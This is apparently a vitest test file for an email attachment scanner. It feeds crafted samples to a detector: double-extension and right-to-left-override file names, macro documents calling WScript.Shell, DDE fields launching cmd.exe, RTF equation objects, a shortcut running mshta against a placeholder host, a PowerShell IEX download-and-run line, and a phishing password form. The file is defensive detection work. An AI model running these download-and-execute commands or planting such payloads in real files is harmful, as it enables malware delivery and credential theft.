// Files through the one door: tricks in names, risky types, archives, Office, RTF, shortcuts, scripts, pages, disk images.
import { describe, expect, it } from 'vitest'
import { catalogue } from '../../catalogue-all.ts'
import { examineFile } from './index.ts'
import {
  attachment,
  compound,
  diskImage,
  fileContext,
  macroDocument,
  sampleFiles,
  shortcut,
  zip,
} from './testing-files.ts'

async function ids(name: string, content: Uint8Array | string, context = fileContext(), more = {}): Promise<string[]> {
  const { findings } = await examineFile(attachment(name, content, more), context)
  return findings.map(({ id }) => id)
}

const program = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0'),
  Buffer.alloc(600),
])
const contentTypes = { '[Content_Types].xml': '<Types/>' }

describe('names', () => {
  it.each([
    ['invoice.pdf.exe', 'file-double-extension'],
    ['invoice.pdf                                   .js', 'file-double-extension'],
    ['invoice.pdf                                   .js', 'file-name-padded'],
    ['report\u202Efdp.scr', 'file-name-reversed'],
    ['voice-message.mp3.html', 'page-double-extension'],
    ['order.pdf.zip', 'archive-double-extension'],
    ['r\u0435port.docm', 'file-name-look-alike'],
    [`${'a'.repeat(190)}.hta`, 'file-name-long'],
  ])('%s → %s', async (name, id) => expect(await ids(name, '\x01\x02')).toContain(id))

  it.each([
    'minutes 2026-11-21.pdf',
    'v1.2.3.patch',
    'photo.jpg',
    'data.json.js.txt',
    'Müller_Rechnung.docx',
    'отчёт.docx',
    'archive.tar.gz',
    'www.example.com',
  ])('leaves %s alone', async (name) => expect(await ids(name, 'plain words')).toEqual([]))
})

describe('types', () => {
  it('names a program under a document name', async () => {
    expect(await ids('invoice.pdf', program)).toEqual(['executable-attachment', 'executable-disguised'])
    expect(await ids('setup.exe', program)).toEqual(['executable-attachment'])
  })
  it.each([
    ['run.hta', 'script-attachment'],
    ['tool.iso', 'disk-image-attachment'],
    ['a.xll', 'add-in-attachment'],
    ['help.chm', 'help-file-attachment'],
    ['web.iqy', 'query-file-attachment'],
    ['x.lnk', 'shortcut-attachment'],
    ['page.shtml', 'page-file-attachment'],
    ['mail.rdp', 'remote-desktop-file'],
  ])('%s → %s', async (name, id) => expect(await ids(name, 'full address:s:host.example\n')).toContain(id))
  it('takes HTML under a picture name for a deception', async () => {
    expect(await ids('scan.jpg', '<html><body>x</body></html>')).toContain('file-type-mismatch')
  })
  it('names the agreed test file', async () => {
    const text = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR', '-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')
    const outcome = await examineFile(attachment('a.txt', text), fileContext())
    expect(outcome.familyName).toBe('EICAR-Test-File')
    expect(outcome.scans?.[0]).toMatchObject({ type: 'file', verdict: 'malicious', sizeBytes: 68 })
  })
})

describe('archives', () => {
  it('sees the lone program, the page and the nested archive', async () => {
    expect(await ids('a.zip', zip({ 'invoice.js': 'var a = 1' }))).toEqual(
      expect.arrayContaining(['archive-holds-program', 'archive-single-program']),
    )
    expect(await ids('a.zip', zip({ 'login.html': '<html></html>' }))).toContain('archive-holds-page')
    expect(await ids('a.zip', zip({ 'b.zip': { content: zip({ 'x.exe': 'MZ' }) } }))).toEqual(
      expect.arrayContaining(['archive-nested', 'archive-single-program']),
    )
  })
  it('weighs a locked archive by what the mail and the names tell', async () => {
    const locked = zip({ 'invoice.vbs': { content: 'x', encrypted: true } })
    const mailText = 'Please see the invoice.\nArchive password: 7741'
    expect(await ids('a.zip', locked, fileContext({ mailText }))).toEqual(
      expect.arrayContaining(['archive-encrypted', 'archive-password-in-text', 'archive-locked-program']),
    )
    expect(await ids('a.zip', locked, fileContext({ mailText: 'Your password is expired.' }))).not.toContain(
      'archive-password-in-text',
    )
  })
  it('judges archives that intake unpacked by their members', async () => {
    const rar = attachment('a.rar', 'Rar!\x1a\x07\x01\x00')
    const members = [attachment('scan.scr', program, { parent: rar.sha256 })]
    const { findings } = await examineFile(rar, fileContext({ members }))
    expect(findings.map(({ id }) => id)).toContain('archive-single-program')
  })
  it('sees escapes from the folder', async () =>
    expect(await ids('a.zip', zip({ '../../evil.txt': 'x' }))).toContain('archive-path-escape'))
  it('leaves ordinary archives alone', async () => {
    expect(await ids('a.zip', zip({ 'a.txt': 'x', 'b.pdf': 'y' }))).toEqual([])
    expect(
      await ids('src.zip', zip(Object.fromEntries(Array.from({ length: 30 }, (_, i) => [`src/file${i}.js`, 'x'])))),
    ).toEqual([])
  })
})

describe('Office', () => {
  it('reads macros of old documents', async () => {
    const source = 'Sub AutoOpen()\r\n  CreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n'
    expect(await ids('a.doc', macroDocument(source))).toEqual([
      'office-macros',
      'office-macro-autorun',
      'office-macro-executes',
    ])
    expect(await ids('a.doc', macroDocument('Sub Total()\r\n  x = 1\r\nEnd Sub\r\n'))).toEqual(['office-macros'])
    expect(await ids('a.doc', macroDocument('Option Explicit\r\n'))).toEqual([])
  })
  it('reads macros of new documents', async () => {
    const project = compound({
      'VBA/Module1': (await import('./testing-files.ts')).vbaModule('Sub Document_Open()\r\nShell "cmd"\r\nEnd Sub'),
    })
    expect(await ids('a.docm', zip({ ...contentTypes, 'word/vbaProject.bin': { content: project } }))).toContain(
      'office-macro-executes',
    )
  })
  it('finds remote templates, objects and DDE fields', async () => {
    const relation = (type: string, target: string): string =>
      `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`
    const withRelation = (type: string, target: string) =>
      zip({ ...contentTypes, 'word/_rels/settings.xml.rels': relation(type, target) })
    expect(await ids('a.docx', withRelation('attachedTemplate', 'https://files.example/t.dotm'))).toContain(
      'office-remote-template',
    )
    expect(await ids('a.docx', withRelation('attachedTemplate', 'file:///C:/Templates/Normal.dotm'))).toEqual([])
    expect(await ids('a.docx', withRelation('oleObject', 'https://files.example/x.html!'))).toContain(
      'office-remote-object',
    )
    const dde =
      '<w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\windows\\cmd.exe "/k x"</w:instrText></w:r>'
    expect(await ids('a.docx', zip({ ...contentTypes, 'word/document.xml': dde }))).toContain('office-dde')
  })
  it('names links and single-link lures, and the program inside', async () => {
    const rels =
      '<Relationship Id="r" Type="x/hyperlink" Target="https://portal.example/a?b=1&amp;c=2" TargetMode="External"/>'
    const lure = zip({
      ...contentTypes,
      'word/document.xml': '<w:t>Open document</w:t>',
      'word/_rels/document.xml.rels': rels,
    })
    const outcome = await examineFile(attachment('a.docx', lure), fileContext())
    expect(outcome.links?.[0]?.href).toBe('https://portal.example/a?b=1&c=2')
    expect(outcome.findings.map(({ id }) => id)).toEqual(['document-single-link'])
    const packed = zip({ ...contentTypes, 'word/embeddings/setup.exe': { content: program } })
    const inside = await examineFile(attachment('a.docx', packed), fileContext())
    expect(inside.findings.map(({ id }) => id)).toContain('document-embedded-program')
    expect(inside.scans).toHaveLength(2)
    expect(inside.scans?.[1]).toMatchObject({
      parent: inside.scans?.[0]?.type === 'file' ? inside.scans[0].sha256 : '',
    })
  })
})

describe('other formats', () => {
  it('reads RTF objects and templates', async () => {
    expect(await ids('a.doc', '{\\rtf1{\\*\\template https://files.example/t.dotm}}')).toContain(
      'office-remote-template',
    )
    const object = Buffer.from('0105000002000000 Equation.3\0 x').toString('hex')
    expect(await ids('a.rtf', `{\\rtf1{\\object\\objupdate{\\*\\objdata {\\x}${object}}}}`)).toEqual(
      expect.arrayContaining(['rtf-object', 'rtf-auto-update', 'rtf-equation-exploit']),
    )
    expect(await ids('a.rtf', '{\\rt\\ansi words}')).toContain('rtf-malformed-header')
    expect(await ids('a.rtf', '{\\rtf1\\ansi words}')).toEqual([])
  })
  it('reads shortcuts', async () => {
    const bytes = shortcut(
      '..\\Windows\\System32\\cmd.exe',
      `/c ${' '.repeat(80)}mshta https://files.example/a.hta`,
      'C:\\Program Files\\Adobe\\Acrobat.exe',
    )
    const outcome = await examineFile(attachment('invoice.pdf.lnk', bytes), fileContext())
    expect(outcome.findings.map(({ id }) => id)).toEqual(
      expect.arrayContaining([
        'shortcut-runs-command',
        'shortcut-hidden-arguments',
        'shortcut-icon-disguise',
        'file-double-extension',
      ]),
    )
    expect(outcome.links?.map(({ href }) => href)).toEqual(['https://files.example/a.hta'])
    expect(await ids('a.url', '[InternetShortcut]\r\nURL=file://files.example/share/a.exe\r\n')).toContain(
      'shortcut-remote-target',
    )
  })
  it('reads scripts', async () => {
    expect(await ids('a.ps1', "IEX (New-Object Net.WebClient).DownloadString('https://files.example/a')")).toContain(
      'script-download-run',
    )
    expect(await ids('a.js', `var s=String.fromCharCode(${'104, '.repeat(80)}1);eval(s)`)).toContain(
      'script-obfuscated',
    )
  })
  it('reads pages and SVG pictures', async () => {
    expect(
      await ids('a.html', '<html><form action="https://kit.example/p.php"><input type="password"></form>'),
    ).toContain('page-file-password-form')
    expect(await ids('a.html', '<html><script>window.location.href="https://kit.example/"</script>')).toContain(
      'page-file-redirect',
    )
    expect(
      await ids(
        'a.svg',
        '<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://kit.example"</script></svg>',
      ),
    ).toContain('svg-script')
    expect(await ids('a.svg', '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>')).toEqual([
      'svg-attachment',
    ])
  })
  it('lists disk images', async () => {
    const found = await ids('a.iso', diskImage({ 'INVOICE.LNK': shortcut('cmd.exe', '/c x', ''), 'README.TXT': 'x' }))
    expect(found).toEqual(
      expect.arrayContaining(['disk-image-attachment', 'archive-holds-program', 'shortcut-runs-command']),
    )
  })
  it('finds programs in OneNote pages', async () => {
    const script = Buffer.from('<html><script>CreateObject("WScript.Shell").Run "powershell -c x"</script></html>')
    const length = Buffer.alloc(20)
    length.writeUInt32LE(script.length)
    const section = Buffer.concat([
      Buffer.from('e4525c7b8cd8a74daeb15378d02996d3', 'hex'),
      Buffer.alloc(64),
      Buffer.from('e716e3bd65261145a4c48d4d0b7a9eac', 'hex'),
      length,
      script,
    ])
    expect(await ids('a.one', section)).toEqual(
      expect.arrayContaining(['document-embedded-program', 'notebook-attachment']),
    )
  })
})

describe('false alarms', () => {
  it.each([
    ['smime.p7s', '0\x82', 'application/pkcs7-signature'],
    ['signature.asc', '-----BEGIN PGP SIGNATURE-----\n', 'application/pgp-signature'],
    ['invite.ics', 'BEGIN:VCALENDAR\nMETHOD:REQUEST\nEND:VCALENDAR\n', 'text/calendar'],
    ['fix.patch', 'diff --git a/a.c b/a.c\n+system("x");\n', 'text/x-patch'],
    ['tool.py', 'import os\nprint(1)\n', 'text/x-python'],
    ['main.c', '#include <stdio.h>\n', 'text/x-c'],
    [
      'part-2',
      'Reporting-MTA: dns; mx.example.com\n\nFinal-Recipient: rfc822; a@example.com\n',
      'message/delivery-status',
    ],
    ['notes.txt', 'Run cmd /c dir and see.', 'text/plain'],
    ['dmesg.xz', '\xfd7zXZ', 'application/x-xz'],
    ['photo.com.png', '\x89PNG', 'image/png'],
  ])('says nothing about %s', async (name, content, mediaType) =>
    expect(await ids(name, content, fileContext(), { mediaType })).toEqual([]),
  )
  it('says nothing about a plain workbook', async () => {
    expect(await ids('a.xlsx', zip({ ...contentTypes, 'xl/sharedStrings.xml': '<si><t>Total</t></si>' }))).toEqual([])
  })
})

const samples = sampleFiles()
describe.skipIf(samples === null)('shared samples (DOCKET_TEST_DATA)', () => {
  it.each([
    ['eicar.com', 'malware-known'],
    ['test.exe', 'executable-attachment'],
    ['test_upx.exe', 'executable-packed'],
    ['test_pe_object.doc', 'document-embedded-program'],
    ['test_pe_object_classic.doc', 'document-embedded-program'],
    ['test.xls', 'office-xlm-macros'],
    ['test.lnk', 'shortcut-attachment'],
    ['test_password.docx', 'office-encrypted'],
    ['test_zip_password.zip', 'archive-encrypted'],
    ['test.one', 'document-embedded-file'],
    ['test.iso', 'disk-image-attachment'],
    ['test.vsto', 'add-in-attachment'],
  ])('%s → %s', async (name, id) => expect(await ids(name, samples?.get(name) ?? '')).toContain(id))
  it.each([
    'test.docx',
    'test.doc',
    'test.pdf',
    'test.jpg',
    'test.txt',
    'test.zip',
    'test.txt.asc',
    'test.json',
    'test.xml',
    'test.tar',
  ])('%s is clean', async (name) => expect(await ids(name, samples?.get(name) ?? '')).toEqual([]))
  it('survives every sample cut at any place, and cites only the catalogue', async () => {
    for (const [name, bytes] of samples ?? []) {
      for (const share of [0.01, 0.1, 0.5, 0.9]) {
        const cut = bytes.subarray(0, Math.ceil(Math.min(bytes.length, 300_000) * share))
        const { findings } = await examineFile(attachment(name, cut), fileContext())
        for (const { id } of findings) expect(catalogue.has(id)).toBe(true)
      }
    }
  })
})
